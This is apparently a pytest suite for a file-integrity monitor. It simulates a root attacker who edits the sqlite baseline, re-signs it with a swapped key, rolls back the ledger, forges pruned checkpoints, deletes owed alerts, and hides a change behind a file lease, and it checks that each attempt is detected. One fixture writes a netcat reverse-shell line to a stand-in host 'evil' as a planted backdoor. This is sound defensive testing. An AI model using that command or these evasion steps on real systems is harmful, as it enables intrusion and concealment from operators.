"""A root attacker against the seal: each way past it that worked once, now closed.

Every test is one row of the trust issue's table, done as an attacker with root on the
host would: with sqlite3 on the database file, cp, and the project's own public
functions where the attacker re-computes a root. What must hold is what an operator
relies on: plain verify and status see naive tampering; the three pins kept off the
host (root, key fingerprint, chain head) see the rest.
"""

from __future__ import annotations

import json
import os
import shutil
import sqlite3
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from integrity.ops.seal import root_statement
from integrity.paths import to_key
from integrity.store import Store
from integrity.store.ledger import journal
from integrity.trust import root_of, sign, signer_of

from conftest import Cli


def sql(db: Path, statement: str, *args: object) -> int:
    with sqlite3.connect(db) as conn:
        return conn.execute(statement, args).rowcount


def status(cli: Cli, *args: str) -> tuple[int, dict[str, Any]]:
    result = cli("status", "--json", *args)
    return result.exit_code, json.loads(result.stdout) if result.stdout else {}


@pytest.fixture
def keys(tmp_path: Path) -> tuple[Path, Path]:
    private = tmp_path / "keys" / "signing.key"
    private.parent.mkdir()
    assert Cli(tmp_path / "k.db", tmp_path / "none.toml")(
        "key", "generate", str(private)).exit_code == 0
    return private, Path(f"{private}.pub")


@pytest.fixture
def signed(run: Cli, tree: Path, keys: tuple[Path, Path],
           write_policy: Callable[..., Path]) -> Cli:
    """A baseline signed with `keys`, under a policy naming the public key."""
    policy = write_policy({"path": str(tree), "check": "static", "severity": "high"},
                          name="signed.toml")
    # TOML: top-level keys come before the first table.
    policy.write_text(f'public_key = "{keys[1]}"\n' + policy.read_text())
    cli = Cli(run.db, policy)
    result = cli("init", "--sign-key", str(keys[0]))
    assert result.exit_code == 0, result.output
    return cli


def reseal(db: Path, private: Path | None, policy_text: str | None = None) -> str:
    """What a root attacker does after editing rows: recompute the root over the rows
    as they are (and sign it with a key of theirs), so plain verify agrees."""
    store = Store(f"sqlite:///{db}")
    try:
        info = store.baselines.require()
        entries_root = root_of(store.baselines.entries(info.id), info.seal_version)
    finally:
        store.close()
    with sqlite3.connect(db) as conn:
        if policy_text is not None:
            conn.execute("UPDATE baseline SET policy = ? WHERE state = 'active'",
                         (policy_text,))
            info = info.__class__(**{**info.__dict__, "policy": policy_text})
        root = root_statement(info, entries_root)
        signature = sign(root, str(private)) if private else None
        signer = signer_of(str(private)) if private else None
        conn.execute("UPDATE baseline SET root = ?, signature = ?, signer = ? "
                     "WHERE state = 'active'", (root, signature, signer))
    # ... and enters the new state in the chain, as integrity would have.
    store = Store(f"sqlite:///{db}")
    try:
        with store.writer() as conn, conn.begin():
            journal(conn, "baseline", [info.id])
    finally:
        store.close()
    return root


def plant(db: Path, path: Path) -> None:
    """Write the live state of `path` over its baseline row, as an attacker who
    replaced the file would, so that it no longer differs."""
    import blake3

    st = os.lstat(path)
    sql(db, "UPDATE entry SET content = ?, size = ?, inode = ?, mtime = ?, ctime = ?, "
            "nlink = ? WHERE key = ?", blake3.blake3(path.read_bytes()).digest(),
        st.st_size, st.st_ino, st.st_mtime_ns, st.st_ctime_ns, st.st_nlink,
        to_key(os.fsencode(path)))


# 1 -------------------------------------------------------------------------------------

def test_two_inits_at_once_leave_one_whole_baseline(run: Cli, tree: Path) -> None:
    for name in range(40):
        (tree / "sub" / f"extra{name}").write_text(str(name))
    command = [sys.executable, "-m", "integrity", "--db", f"sqlite:///{run.db}",
               "--policy", str(run.policy), "-q"]
    assert run("init").exit_code == 0
    for _ in range(4):
        procs = [subprocess.Popen([*command, "init", "--force"], stdout=subprocess.PIPE,
                                  stderr=subprocess.PIPE, text=True) for _ in range(2)]
        outcomes = [(p.wait(timeout=120), p.stderr.read() if p.stderr else "")
                    for p in procs]
        for code, stderr in outcomes:
            # One waits for the other: both succeed, or one fails with one clear line.
            assert code == 0 or (code == 2 and stderr.count("\n") == 1), stderr
        assert any(code == 0 for code, _ in outcomes)
        code, data = status(run)
        assert data["baseline"]["seal"]["valid"] is True, data["baseline"]
        assert data["baseline"]["entries"] == 1 + sum(1 for _ in tree.rglob("*"))
        assert run("verify").exit_code == 0


# 2 -------------------------------------------------------------------------------------

def test_an_approval_never_reseals_a_row_edited_behind_its_back(
        signed: Cli, tree: Path, keys: tuple[Path, Path]) -> None:
    (tree / "a.conf").write_text("approved change\n")
    assert signed("verify").exit_code == 1
    before = sql(signed.db, "UPDATE entry SET mode = 2541 WHERE key = ?",
                 to_key(os.fsencode(tree / "sub" / "c.txt")))
    assert before == 1
    with sqlite3.connect(signed.db) as conn:
        sealed = conn.execute("SELECT root, signature, generation FROM baseline "
                              "WHERE state = 'active'").fetchone()
    refused = signed("approve", "--all", "--sign-key", str(keys[0]))
    assert refused.exit_code == 2 and "tampering" in refused.stderr, refused.output
    with sqlite3.connect(signed.db) as conn:
        after = conn.execute("SELECT root, signature, generation FROM baseline "
                             "WHERE state = 'active'").fetchone()
    assert after == sealed  # not re-rooted, not re-signed


# 3 -------------------------------------------------------------------------------------

def test_excludes_added_over_a_backdoor_do_not_hide_it(
        signed: Cli, tree: Path, keys: tuple[Path, Path]) -> None:
    root = status(signed)[1]["baseline"]["root"]
    (tree / "sub" / "backdoor").write_text("#!/bin/sh\nnc -e /bin/sh evil 4444\n")
    text = signed.policy.read_text().replace(
        'severity = "high"', f'severity = "high"\nexclude = ["{tree}/sub", "backdoor"]')
    signed.policy.write_text(text)
    result = signed("verify", "--json", "--expect-root", root)
    assert result.exit_code == 1, result.output
    report = json.loads(result.stdout)
    assert [c["path"] for c in report["changes"]] == [str(tree / "sub"),
                                                       str(tree / "sub" / "backdoor")]
    assert report["policy"]["sealed"] is False
    assert report["policy"]["differences"] == [f"rule {tree}: exclude"]
    events = signed.json("events", "--open")
    policy_events = [e for e in events if e["kind"] == "policy"]
    assert [e["severity"] for e in policy_events] == ["critical"]
    assert policy_events[0]["new"]["differences"] == [f"rule {tree}: exclude"]
    # Accepting the policy is an act of its own, signed like any approval.
    assert signed("approve", "--policy").exit_code == 2
    accepted = signed("approve", "--policy", "--sign-key", str(keys[0]))
    assert accepted.exit_code == 0, accepted.output
    assert signed("verify").exit_code == 0  # the sealed policy now excludes them
    assert all(e["status"] == "approved" for e in signed.json("events")
               if e["kind"] == "policy")


def test_the_policy_file_itself_excluded_is_still_verified(
        run: Cli, tmp_path: Path, write_policy: Callable[..., Path]) -> None:
    etc = tmp_path / "etc"
    etc.mkdir()
    policy = write_policy({"path": str(etc), "check": "config"}, name="policy.toml")
    shutil.move(str(policy), etc / "policy.toml")
    cli = Cli(run.db, etc / "policy.toml")
    assert cli("init").exit_code == 0
    (etc / "policy.toml").write_text((etc / "policy.toml").read_text()
                                     + 'exclude = ["policy.toml"]\n')
    result = cli("verify", "--json")
    assert result.exit_code == 1
    report = json.loads(result.stdout)
    assert [c["path"] for c in report["changes"]] == [str(etc / "policy.toml")]
    assert report["policy"]["differences"] == [f"rule {etc}: exclude"]


# 4 -------------------------------------------------------------------------------------

def test_a_replaced_public_key_and_a_resigned_baseline_fail_the_kept_fingerprint(
        signed: Cli, tree: Path, keys: tuple[Path, Path], tmp_path: Path) -> None:
    kept = signed("key", "fingerprint", str(keys[1])).stdout.strip()
    assert kept.startswith("SHA256:") and signed(
        "verify", "--expect-key", kept).exit_code == 0
    attacker = tmp_path / "attacker.key"
    assert signed("key", "generate", str(attacker)).exit_code == 0
    shutil.copy(f"{attacker}.pub", keys[1])                # the host's .pub replaced
    (tree / "b.bin").write_bytes(b"trojan")
    plant(signed.db, tree / "b.bin")
    reseal(signed.db, attacker)
    fooled = signed("verify")
    assert fooled.exit_code == 0, fooled.output          # the host alone is fooled
    refused = signed("verify", "--expect-key", kept)
    assert refused.exit_code == 2 and kept in refused.stderr
    assert "tampering" in refused.stderr


def test_key_fingerprint_is_what_ssh_keygen_prints(
        run: Cli, keys: tuple[Path, Path], tmp_path: Path) -> None:
    ssh_keygen = shutil.which("ssh-keygen")
    assert ssh_keygen, "ssh-keygen (openssh-client) is installed by scripts/test"
    from cryptography.hazmat.primitives import serialization

    key = serialization.load_pem_public_key(keys[1].read_bytes())
    (tmp_path / "key.ssh.pub").write_bytes(key.public_bytes(
        serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH))
    printed = subprocess.run([ssh_keygen, "-l", "-f", str(tmp_path / "key.ssh.pub")],
                             capture_output=True, text=True, check=True).stdout.split()[1]
    assert run("key", "fingerprint", str(keys[1])).stdout.strip() == printed
    assert run("key", "fingerprint", str(keys[0])).stdout.strip() == printed


# 5 -------------------------------------------------------------------------------------

def test_removing_the_public_key_after_editing_rows_does_not_turn_signing_off(
        signed: Cli, tree: Path, keys: tuple[Path, Path]) -> None:
    kept = signed("key", "fingerprint", str(keys[1])).stdout.strip()
    (tree / "a.conf").chmod(0o777)
    plant(signed.db, tree / "a.conf")
    sql(signed.db, "UPDATE entry SET mode = 511 WHERE key = ?",
        to_key(os.fsencode(tree / "a.conf")))
    reseal(signed.db, None)
    signed.policy.write_text("\n".join(line for line in signed.policy.read_text()
                                       .splitlines() if not line.startswith("public_key")) + "\n")
    refused = signed("verify")
    assert refused.exit_code == 2 and "not signed" in refused.stderr
    code, data = status(signed)
    assert code == 1 and data["baseline"]["signed"] is False
    assert data["baseline"]["seal"]["valid"] is False
    # Rewriting the sealed policy too fools the host, never the kept fingerprint.
    store = Store(f"sqlite:///{signed.db}")
    try:
        sealed = json.loads(store.baselines.require().policy or "{}")
    finally:
        store.close()
    sealed.pop("public_key")
    reseal(signed.db, None, json.dumps(sealed, sort_keys=True, separators=(",", ":")))
    assert signed("verify").exit_code == 0
    assert status(signed)[1]["baseline"]["signed"] is False
    refused = signed("verify", "--expect-key", kept)
    assert refused.exit_code == 2 and "is not signed" in refused.stderr


# 6 -------------------------------------------------------------------------------------

def test_a_database_rolled_back_past_an_incident_fails_the_kept_head(
        run: Cli, tree: Path, tmp_path: Path) -> None:
    assert run("init").exit_code == 0
    (tree / "a.conf").write_text("changed\n")
    assert run("verify").exit_code == 1
    assert run("approve", "--all").exit_code == 0
    copy = tmp_path / "after-approval.db"
    shutil.copy(run.db, copy)                              # WAL is checkpointed on close
    (tree / "sub" / "c.txt").write_text("the incident\n")
    assert run("verify").exit_code == 1
    incident = [e for e in run.json("events") if e["path"].endswith("c.txt")][0]
    kept = incident["chain"]                               # what its alert carried off
    assert kept and run("verify", "--expect-head", kept).exit_code == 1
    head = status(run)[1]["chain"]["head"]
    shutil.copy(copy, run.db)                              # the attacker's rollback
    for path in (Path(f"{run.db}-wal"), Path(f"{run.db}-shm")):
        path.unlink(missing_ok=True)
    (tree / "sub" / "c.txt").write_text("gamma\n")
    for pin in (kept, head):
        refused = run("verify", "--expect-head", pin)
        assert refused.exit_code == 2 and "rolled back" in refused.stderr
        assert run("status", "--expect-head", pin).exit_code == 2


# 7 -------------------------------------------------------------------------------------

def test_an_edited_digest_under_the_recorded_root_fails_plain_verify_and_status(
        run: Cli, tree: Path) -> None:
    assert run("init").exit_code == 0
    (tree / "a.conf").write_text("backdoored\n")
    plant(run.db, tree / "a.conf")
    for args in (["verify"], ["verify", "--fast"], ["verify", str(tree / "sub")]):
        refused = run(*args)
        assert refused.exit_code == 2, args
        assert refused.stderr.count("\n") == 1 and "tampering" in refused.stderr
    code, data = status(run)
    assert code == 1 and data["baseline"]["seal"]["valid"] is False
    text = run("status").stdout
    assert "TAMPERING" in text and "seal verified" not in text
    # The refusal is an event of its own, critical, for the alert sinks.
    warnings = [e for e in run.json("events") if e["classification"] == "tampering"]
    assert warnings and warnings[0]["severity"] == "critical"


# 8 -------------------------------------------------------------------------------------

def test_deleting_the_last_event_with_its_ledger_row_fails_the_kept_head(
        run: Cli, tree: Path) -> None:
    assert run("init").exit_code == 0
    (tree / "a.conf").write_text("changed\n")
    assert run("verify").exit_code == 1
    kept = status(run)[1]["chain"]["head"]
    sql(run.db, "DELETE FROM event")
    sql(run.db, "DELETE FROM ledger WHERE kind = 'event'")
    sql(run.db, "DELETE FROM ledger WHERE kind = 'outbox'")
    refused = run("status", "--expect-head", kept)
    assert refused.exit_code == 2 and "rolled back" in refused.stderr
    assert run("verify", "--expect-head", kept).exit_code == 2


def test_wiping_events_and_ledger_shows_without_a_pin(run: Cli, tree: Path) -> None:
    assert run("init").exit_code == 0
    (tree / "a.conf").write_text("changed\n")
    assert run("verify").exit_code == 1
    sql(run.db, "DELETE FROM event")
    sql(run.db, "DELETE FROM ledger")
    code, data = status(run)
    assert code == 1 and data["chain"]["ok"] is False
    assert any("active baseline is not in the ledger" in p
               for p in data["chain"]["problems"])


# 9 -------------------------------------------------------------------------------------

def test_a_package_owner_planted_on_a_row_breaks_the_seal(run: Cli, tree: Path) -> None:
    assert run("init").exit_code == 0
    sql(run.db, "UPDATE entry SET package = 'coreutils' WHERE key = ?",
        to_key(os.fsencode(tree / "b.bin")))
    (tree / "b.bin").unlink()
    refused = run("approve", "--package-updates")
    assert refused.exit_code == 2 and "tampering" in refused.stderr
    assert run("verify").exit_code == 2


# 11 ------------------------------------------------------------------------------------

def test_deleting_owed_alerts_is_tampering(run: Cli, tree: Path) -> None:
    run.policy.write_text(run.policy.read_text() + "\n[[alert]]\ntype = \"email\"\n"
                          "name = \"ops-mail\"\nhost = \"127.0.0.1\"\nport = 9\n"
                          "from = \"integrity@example.com\"\nto = [\"ops@example.com\"]\n")
    assert run("init").exit_code == 0
    (tree / "a.conf").write_text("changed\n")
    assert run("verify").exit_code == 1          # the mail server is down: still owed
    with sqlite3.connect(run.db) as conn:
        assert conn.execute("SELECT count(*) FROM outbox").fetchone()[0] == 1
    sql(run.db, "DELETE FROM outbox")
    code, data = status(run)
    assert code == 1 and not data["chain"]["ok"]
    assert any(p.startswith("outbox ") and "gone (deleted)" in p
               for p in data["chain"]["problems"]), data["chain"]


LEASE_HOLDER = r"""
import fcntl, os, signal, sys, time
fd = os.open(sys.argv[1], os.O_RDONLY)
broken = False
def on_break(signum, frame):
    global broken
    broken = True
signal.signal(signal.SIGIO, on_break)
fcntl.fcntl(fd, fcntl.F_SETLEASE, fcntl.F_WRLCK)
print("ready", flush=True)
while True:
    time.sleep(0.001)
    if broken:  # a blocking opener waits for this: let it in...
        fcntl.fcntl(fd, fcntl.F_SETLEASE, fcntl.F_UNLCK)
        broken = False
        while True:  # ...and take the lease back once it has closed the file
            try:
                fcntl.fcntl(fd, fcntl.F_SETLEASE, fcntl.F_WRLCK)
                break
            except OSError:
                time.sleep(0.001)
"""


def test_a_file_lease_does_not_hide_a_content_change(
        tmp_path: Path, write_policy: Callable[..., Path]) -> None:
    """The attack: root holds a write lease on a changed sshd_config. A non-blocking
    open fails at once (EWOULDBLOCK) while sshd, cron or cat wait a moment for the
    holder and read the new bytes. The scan used to report the file as unreadable
    and drop its content from the comparison: no event, no alert. It must read what
    every other reader reads, in verify, --fast and the watcher's re-check alike."""
    from integrity.ops.seal import SealedIndex
    from integrity.ops.verify import check_paths
    from integrity.policy import load

    tree = tmp_path / "ssh"
    tree.mkdir()
    conf = tree / "sshd_config"
    conf.write_text("AllowUsers alice\n")
    policy_path = write_policy({"path": str(tree), "check": "config", "severity": "critical"})
    cli = Cli(tmp_path / "state" / "integrity.db", policy_path)
    assert cli("init").exit_code == 0
    conf.write_text("AllowUsers mallo\n")  # the same size: only the content differs
    holder = subprocess.Popen([sys.executable, "-c", LEASE_HOLDER, str(conf)],
                              stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout is not None and holder.stdout.readline() == "ready\n"
        with pytest.raises(BlockingIOError):  # the lease is there
            os.close(os.open(conf, os.O_RDONLY | os.O_NONBLOCK))
        for args in (("verify",), ("verify", "--fast")):
            report = json.loads(cli(*args, "--json").stdout)
            assert report["errors"] == [], args
            assert [(c["path"], c["changed"]) for c in report["changes"]] == [
                (str(conf), ["content"])], args
        store = Store(f"sqlite:///{cli.db}")
        try:
            conf.write_text("AllowUsers eve\n")  # a change for the re-check to find
            policy = load(policy_path)
            checked = check_paths(store, policy, [os.fsencode(conf)],
                                  SealedIndex.build(store, policy))
            assert [c.path for c in checked.result.changes] == [os.fsencode(conf)]
            assert checked.result.warnings == []
        finally:
            store.close()
    finally:
        holder.kill()
        holder.wait()


# 12 ------------------------------------------------------------------------------------

def _rolled_back(run: Cli, tree: Path, tmp_path: Path) -> tuple[str, Path]:
    """A head kept after an incident, and a copy of the database from before it."""
    assert run("init").exit_code == 0
    copy = tmp_path / "before-incident.db"
    shutil.copy(run.db, copy)
    (tree / "sub" / "c.txt").write_text("the incident\n")
    assert run("verify").exit_code == 1
    return status(run)[1]["chain"]["head"], copy


def _restore(copy: Path, db: Path) -> None:
    shutil.copy(copy, db)
    for path in (Path(f"{db}-wal"), Path(f"{db}-shm")):
        path.unlink(missing_ok=True)


def test_a_kept_head_written_into_the_prune_archive_is_not_an_ancestor(
        run: Cli, tree: Path, tmp_path: Path) -> None:
    """The attack: roll the database back past the incident, then claim the kept head
    was pruned, by writing its digest into the table of pruned digests. Nothing
    proves that digest ever chained to the head now."""
    kept, copy = _rolled_back(run, tree, tmp_path)
    _restore(copy, run.db)
    (tree / "sub" / "c.txt").write_text("gamma\n")
    sql(run.db, "INSERT INTO ledger_archive (digest) VALUES (?)", kept)
    refused = run("verify", "--expect-head", kept)
    assert refused.exit_code == 2 and "rolled back" in refused.stderr
    assert run("status", "--expect-head", kept).exit_code == 2


def test_a_forged_prune_that_names_the_kept_head_is_not_an_ancestor(
        run: Cli, tree: Path, tmp_path: Path) -> None:
    """The same rollback behind a forged checkpoint: a chain that starts after the
    kept head, with the pruned rows the attacker made up to lead there."""
    from integrity.store.ledger import _append  # what prune itself appends with

    kept, copy = _rolled_back(run, tree, tmp_path)
    _restore(copy, run.db)
    (tree / "sub" / "c.txt").write_text("gamma\n")
    with sqlite3.connect(run.db) as conn:
        conn.execute("INSERT INTO ledger_archive (digest) SELECT digest FROM ledger")
        conn.execute("INSERT INTO ledger_archive (digest) VALUES (?)", (kept,))
        conn.execute("DELETE FROM ledger")
    store = Store(f"sqlite:///{run.db}")
    try:
        with store.writer() as conn, conn.begin():
            _append(conn, [("checkpoint", 0, json.dumps({"previous_head": kept}))],
                    prev=kept)
            journal(conn, "baseline", [store.baselines.require().id])
    finally:
        store.close()
    assert status(run)[1]["chain"]["ok"] is True  # a chain that checks out on the host
    refused = run("verify", "--expect-head", kept)
    assert refused.exit_code == 2 and "rolled back" in refused.stderr
    assert run("status", "--expect-head", kept).exit_code == 2


def test_a_head_kept_before_a_prune_is_still_an_ancestor(run: Cli, tree: Path) -> None:
    """What the archive is for: pruning never fails an honest pin, nor one kept
    before an earlier prune."""
    assert run("init").exit_code == 0
    kept = [status(run)[1]["chain"]["head"]]
    for round_ in range(2):
        (tree / "a.conf").write_text(f"change {round_}\n")
        assert run("verify").exit_code == 1
        kept.append(status(run)[1]["chain"]["head"])
        assert run("approve", "--all").exit_code == 0
        kept.append(status(run)[1]["chain"]["head"])
        sql(run.db, "UPDATE event SET last_seen = '2020-01-01 00:00:00'")
        assert run("prune", "--older-than", "90d").exit_code == 0
    for pin in kept:
        assert run("verify", "--expect-head", pin).exit_code == 0, pin
        assert run("status", "--expect-head", pin).exit_code == 0, pin


# 13 ------------------------------------------------------------------------------------

def test_a_sealed_policy_edited_under_the_watcher_fails_its_next_re_check(
        run: Cli, tree: Path) -> None:
    """The attack: while the watcher runs, rewrite the sealed policy in the database
    (excluding where the backdoor goes), leaving the root alone, then drop the
    backdoor in a new directory. The watcher's re-check of that subtree took its
    check set from the database's policy column, which nothing had verified since
    the watcher indexed the baseline: no alert until the next full scan. Now the
    index no longer passes for current: the watcher builds it again, which checks
    the seal (a tampering alert)."""
    from integrity.ops.seal import SealedIndex, StaleIndex
    from integrity.ops.verify import verify
    from integrity.policy import load
    from integrity.trust import TrustError

    assert run("init").exit_code == 0
    policy = load(run.policy)
    store = Store(f"sqlite:///{run.db}")
    try:
        index = SealedIndex.build(store, policy)  # what `integrity watch` holds
        assert index is not None
        sealed = json.loads(store.baselines.require().policy or "{}")
        sealed["rule"][0]["exclude"] = ["drop"]
        sql(run.db, "UPDATE baseline SET policy = ? WHERE state = 'active'",
            json.dumps(sealed, sort_keys=True, separators=(",", ":")))
        (tree / "sub" / "drop").mkdir()
        (tree / "sub" / "drop" / "backdoor").write_text("#!/bin/sh\n")
        assert not index.current(store)
        with pytest.raises(StaleIndex):
            verify(lambda: store, policy, [os.fsencode(tree / "sub")], parallel=0,
                   source="realtime", index=index)
        with pytest.raises(TrustError, match="tampering"):
            SealedIndex.build(store, policy)
    finally:
        store.close()


# 14 ------------------------------------------------------------------------------------

@pytest.mark.parametrize("resealed", [False, True])
def test_a_sealed_policy_that_is_not_a_policy_is_tampering(
        run: Cli, tree: Path, resealed: bool) -> None:
    """The attack: write something that is not a policy into the baseline's sealed
    policy (and re-seal over it). Every verify of the timer then died on an internal
    error before recording anything: no tampering event, no alert, and status could
    not say what was wrong."""
    assert run("init").exit_code == 0
    sql(run.db, "UPDATE baseline SET policy = '[1' WHERE state = 'active'")
    if resealed:
        reseal(run.db, None, "[1")
    refused = run("verify")
    assert refused.exit_code == 2 and "tampering" in refused.stderr
    assert refused.stderr.count("\n") == 1 and "internal error" not in refused.stderr
    warnings = [e for e in run.json("events") if e["classification"] == "tampering"]
    assert warnings and warnings[0]["severity"] == "critical"
    code, data = status(run)
    assert code == 1 and data["baseline"]["seal"]["valid"] is False
    assert "TAMPERING" in run("status").stdout
    refused = run("approve", "--all")
    assert refused.exit_code == 2 and "tampering" in refused.stderr


@pytest.mark.parametrize("column", ["activated", "created"])
def test_a_baseline_row_with_a_time_integrity_never_wrote_is_tampering(
        run: Cli, tree: Path, column: str) -> None:
    """The same with a time column of the baseline row: 'activated' (sealed) made
    every verify die before it recorded anything, 'created' (chained) made the chain
    check, and so verify and status, die on an internal error."""
    assert run("init").exit_code == 0
    sql(run.db, f"UPDATE baseline SET {column} = 'not a time' WHERE state = 'active'")
    result = run("verify")
    assert result.exit_code in (1, 2) and "internal error" not in result.stderr
    assert "tampering" in result.stderr + result.stdout
    warnings = [e for e in run.json("events") if e["classification"] == "tampering"]
    assert column == "created" or (warnings and warnings[0]["severity"] == "critical")
    if column == "created":
        code, data = status(run)
        assert code == 1 and not data["chain"]["ok"]
    else:  # no baseline to describe: one line, and what is wrong
        refused = run("status")
        assert refused.exit_code == 2 and "tampering" in refused.stderr
        assert refused.stderr.count("\n") == 1


# 15 ------------------------------------------------------------------------------------

def test_an_owed_alert_postponed_past_any_retry_is_still_sent(
        run: Cli, tree: Path, receiver: Any) -> None:
    """The attack: the webhook missed the incident's alert once (it is owed, chained);
    root pushes its next attempt to the year 9999 and its attempts back to 0, columns
    outside the chain (retry bookkeeping). Nothing integrity does ever schedules an
    attempt beyond its longest backoff: such a row is due now, and status says so."""
    run.policy.write_text(run.policy.read_text() + f'\n[[alert]]\ntype = "webhook"\n'
                          f'url = "{receiver.url}"\nretries = 0\ntimeout = 5\n')
    assert run("init").exit_code == 0
    receiver.status = 503
    (tree / "a.conf").write_text("changed\n")
    assert run("verify").exit_code == 1
    assert receiver.bodies == []
    sql(run.db, "UPDATE outbox SET attempts = 0, next_attempt = '9999-12-31 00:00:00'")
    receiver.status = 200
    store = Store(f"sqlite:///{run.db}")
    try:
        store.outbox.retry_now()  # what a restart of the watcher does
    finally:
        store.close()
    code, data = status(run)
    assert code == 1 and any("next attempt" in p for p in data["chain"]["problems"])
    assert run("verify").exit_code == 1
    assert [body["path"] for body in receiver.bodies] == [str(tree / "a.conf")]
